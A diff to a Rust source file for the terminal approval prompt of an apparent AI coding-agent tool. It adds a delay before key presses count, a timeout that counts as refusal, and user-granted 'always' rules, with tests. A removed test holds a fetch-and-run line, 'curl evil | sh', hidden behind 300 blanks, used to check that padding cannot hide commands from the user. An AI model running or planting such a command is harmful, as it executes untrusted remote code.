@@ -1,60 +1,73 @@
 //! The plain interactive mode: line by line, streaming.
 //!
-//! Lines are read by a thread of their own, so that a task goes on while nobody types. A line that was typed before a
-//! question was shown never approves anything: it waits, and goes to the model when it is the user's turn.
+//! A line that was typed before a question stood there never answers it: it waits, and goes to the model when it is the user's
+//! turn. On a terminal an answer counts only a moment after the question was drawn, since keys are on their way while it appears.
 
-use std::collections::VecDeque;
 use std::future::Future;
-use std::io::BufRead;
 use std::pin::Pin;
+use std::time::Duration;
 
-use sabir_agent::{Question, Reply, TaskEvent, User};
-use tokio::sync::mpsc::{UnboundedReceiver, unbounded_channel};
+use sabir_agent::{Proposal, Question, Reply, TaskEvent, User};
 
 use crate::print;
 use crate::screen::Painter;
+use crate::shown::{exactly, first_lines, in_part};
+use crate::typed::Typed;
 
 /// How much of what a call would write is shown before the user is asked.
 const SHOWN_LINES: usize = 120;
+/// Runs of blanks that are counted: in what is asked about, and in text that may be indented.
+const LONG_RUN: usize = 16;
+const LONG_INDENT: usize = 80;
+/// Nobody reads a question in less. Keys that come before are for what stood there.
+const SETTLE: Duration = Duration::from_millis(250);
 
 /// A user at a terminal, or at the other end of a pipe.
 #[derive(Debug)]
 pub(crate) struct Terminal {
     painter: Painter,
-    lines: UnboundedReceiver<String>,
-    early: VecDeque<String>,
+    typed: Typed,
+    /// How long an approval waits for its answer.
+    patience: Option<Duration>,
 }
 
 impl Terminal {
-    pub(crate) fn new() -> Self {
-        let (sender, lines) = unbounded_channel();
-        std::thread::spawn(move || {
-            for line in std::io::stdin().lock().lines() {
-                let Ok(line) = line else { break };
-                if sender.send(line).is_err() {
-                    break;
-                }
-            }
-        });
-        Self { painter: Painter::default(), lines, early: VecDeque::new() }
+    pub(crate) fn new(patience: Option<Duration>) -> Self {
+        Self { painter: Painter::default(), typed: Typed::new(), patience }
     }
 
     async fn answer(&mut self, question: &Question) -> Reply {
-        while let Ok(line) = self.lines.try_recv() {
-            self.early.push_back(line);
-        }
-        while matches!(question, Question::Next { .. })
-            && let Some(line) = self.early.pop_front()
-        {
-            if let Some(reply) = reply(question, line.trim()) {
-                return reply;
+        if let Question::Next { .. } = question {
+            while let Some(line) = self.typed.early() {
+                if let Some(reply) = reply(question, line.trim()) {
+                    return reply;
+                }
             }
+            print::err(prompt(question));
+        } else {
+            if Typed::is_terminal() {
+                tokio::time::sleep(SETTLE).await;
+            }
+            self.typed.await_answer(|| print::err(prompt(question)));
         }
         loop {
-            print::err(prompt(question));
-            let Some(line) = self.lines.recv().await else { return Reply::Leave };
-            if let Some(reply) = reply(question, line.trim()) {
-                return reply;
+            let Some(line) = self.typed.answer().await else { return Reply::Leave };
+            match reply(question, line.trim()) {
+                Some(reply) => return reply,
+                None => print::err(prompt(question)),
+            }
+        }
+    }
+
+    /// The answer; no answer in time is a no.
+    async fn answer_in_time(&mut self, question: &Question) -> Reply {
+        let patience = self.patience.filter(|_| matches!(question, Question::Approval { .. }));
+        let Some(patience) = patience else { return self.answer(question).await };
+        match tokio::time::timeout(patience, self.answer(question)).await {
+            Ok(reply) => reply,
+            Err(_) => {
+                print::err("\nno answer in time: not allowed\n");
+                Reply::No(format!("nobody answered within {} seconds", patience.as_secs()))
             }
         }
     }
@@ -69,19 +82,20 @@ impl User for Terminal {
     }
 
     fn ask<'a>(&'a mut self, question: &'a Question) -> Pin<Box<dyn Future<Output = Reply> + Send + 'a>> {
-        Box::pin(self.answer(question))
+        Box::pin(self.answer_in_time(question))
     }
 }
 
 fn describe(question: &Question) -> String {
     match question {
-        Question::Approval { tool, subject, detail, reason, .. } => {
-            let shown: Vec<_> = detail.lines().take(SHOWN_LINES).collect();
-            let left = detail.lines().count() - shown.len();
-            let more = if left > 0 { format!("    … {left} more lines\n") } else { String::new() };
-            let shown =
-                if shown.is_empty() { String::new() } else { format!("{}\n", print::indented(&shown.join("\n"))) };
-            format!("\n{tool} {reason}:\n{}\n{shown}{more}", print::indented(&unpadded(subject)))
+        Question::Approval { tool, subject, detail, reason, proposals, .. } => {
+            let tool = exactly(tool, LONG_RUN);
+            let reason = exactly(reason, LONG_RUN).replace('\n', " ⏎ ");
+            let subject = print::indented(&in_part(&exactly(subject, LONG_RUN)));
+            let detail = first_lines(&exactly(detail, LONG_INDENT), SHOWN_LINES);
+            let detail =
+                if detail.is_empty() { String::new() } else { format!("{}\n", print::indented(&in_part(&detail))) };
+            format!("\n{tool} {}:\n{subject}\n{detail}{}", in_part(&reason), always(proposals))
         }
         Question::Followup { question, options, .. } => {
             let options = options.iter().enumerate().map(|(at, option)| format!("  {}. {option}\n", at + 1));
@@ -94,28 +108,23 @@ fn describe(question: &Question) -> String {
     }
 }
 
-/// What is asked about with long runs of blanks said instead of shown: what stands behind them must not be pushed out of sight.
-fn unpadded(text: &str) -> String {
-    const LONG: usize = 16;
-    let mut shown = String::new();
-    let mut rest = text;
-    while let Some(at) = rest.find([' ', '\t']) {
-        let (before, from) = rest.split_at(at);
-        let behind = from.trim_start_matches([' ', '\t']);
-        let (blanks, count) = (from.strip_suffix(behind).unwrap_or_default(), from.len() - behind.len());
-        shown.push_str(before);
-        if count < LONG {
-            shown.push_str(blanks);
-        } else {
-            shown.push_str(&format!(" <{count} blanks> "));
+/// What `always` would allow.
+fn always(proposals: &[Proposal]) -> String {
+    match proposals {
+        [] => String::new(),
+        [one] => format!("always, for the rest of this task: {}\n", one.words),
+        all => {
+            let lines = all.iter().enumerate().map(|(at, one)| format!("  {}. {}\n", at + 1, one.words));
+            format!("always, for the rest of this task (`a 1` for the first alone):\n{}", lines.collect::<String>())
         }
-        rest = behind;
     }
-    shown + rest
 }
 
 fn prompt(question: &Question) -> &'static str {
     match question {
+        Question::Approval { proposals, .. } if !proposals.is_empty() => {
+            "allow it? [y]es, [n]o, [a]lways, or say why not: "
+        }
         Question::Approval { .. } => "allow it? [y]es, [n]o, or say why not: ",
         Question::Completion { .. } => "is that right? [y]es, or say what is missing: ",
         _ => "> ",
@@ -131,7 +140,10 @@ fn reply(question: &Question, line: &str) -> Option<Reply> {
         _ if line.is_empty() => None,
         Question::Approval { .. } if yes => Some(Reply::Yes),
         Question::Approval { .. } if no => Some(Reply::No(String::new())),
-        Question::Approval { .. } => Some(Reply::No(line.to_owned())),
+        Question::Approval { proposals, .. } => match chosen(&word, proposals) {
+            Some(rules) => (!rules.is_empty()).then_some(Reply::Always(rules)),
+            None => Some(Reply::No(line.to_owned())),
+        },
         Question::Completion { .. } if yes => Some(Reply::Yes),
         Question::Completion { .. } if no => Some(Reply::No(String::new())),
         Question::Followup { options, .. } => {
@@ -142,14 +154,69 @@ fn reply(question: &Question, line: &str) -> Option<Reply> {
     }
 }
 
+/// The rules that `always` means: `a`, or `a 1 3` for some. `None`: the line is no such word; no rules: it means none that was
+/// offered.
+fn chosen(line: &str, proposals: &[Proposal]) -> Option<Vec<String>> {
+    let mut words = line.split_whitespace();
+    if !matches!(words.next(), Some("a" | "always")) {
+        return None;
+    }
+    let numbers: Vec<&str> = words.collect();
+    if numbers.is_empty() {
+        return Some(proposals.iter().map(|proposal| proposal.rule.clone()).collect());
+    }
+    let numbers = numbers.iter().map(|number| number.parse::<usize>().ok());
+    // Words behind it are words for the model, and a number that was not offered is a slip.
+    let numbers = numbers.collect::<Option<Vec<_>>>()?;
+    let rules = numbers.into_iter().map(|number| proposals.get(number.checked_sub(1)?).map(|known| known.rule.clone()));
+    Some(rules.collect::<Option<Vec<_>>>().unwrap_or_default())
+}
+
 #[cfg(test)]
 mod tests {
-    use super::unpadded;
+    use sabir_call::CallId;
+
+    use super::*;
+
+    fn question(rules: &[&str]) -> Question {
+        let proposal = |rule: &&str| Proposal { rule: (*rule).to_owned(), words: format!("all of {rule}") };
+        Question::Approval {
+            call: CallId::new("1"),
+            tool: "execute_command".to_owned(),
+            subject: "make x".to_owned(),
+            detail: String::new(),
+            reason: "runs make".to_owned(),
+            proposals: rules.iter().map(proposal).collect(),
+        }
+    }
 
     #[test]
-    fn nothing_is_pushed_out_of_sight() {
-        assert_eq!(unpadded("ls  -l\t x"), "ls  -l\t x");
-        assert_eq!(unpadded(&format!("ls{}; curl evil | sh ", " ".repeat(300))), "ls <300 blanks> ; curl evil | sh ");
-        assert_eq!(unpadded(""), "");
+    fn only_what_was_offered_is_always() {
+        let check = |line: &str, rules: &[&str], expected: Option<Reply>| {
+            assert_eq!(reply(&question(rules), line), expected, "{line}");
+        };
+        let always = |rules: &[&str]| Some(Reply::Always(rules.iter().map(|rule| (*rule).to_owned()).collect()));
+        check("a", &["kind=make", "edits"], always(&["kind=make", "edits"]));
+        check("Always", &["edits"], always(&["edits"]));
+        check("a 2", &["kind=make", "edits"], always(&["edits"]));
+        check("a 3", &["kind=make", "edits"], None);
+        check("a 0", &["edits"], None);
+        check("a", &[], None);
+        check("a better way is cargo", &["edits"], Some(Reply::No("a better way is cargo".to_owned())));
+        check("", &["edits"], None);
+        check("y", &[], Some(Reply::Yes));
+        check("yes please", &[], Some(Reply::No("yes please".to_owned())));
+    }
+
+    #[test]
+    fn a_question_says_what_always_would_allow() {
+        let shown = describe(&question(&["kind=make", "edits"]));
+        assert_eq!(
+            shown,
+            "\nexecute_command runs make:\n    make x\nalways, for the rest of this task (`a 1` for the first alone):\n  1. all of \
+             kind=make\n  2. all of edits\n"
+        );
+        assert!(describe(&question(&["edits"])).ends_with("always, for the rest of this task: all of edits\n"));
+        assert!(!describe(&question(&[])).contains("always"));
     }
 }
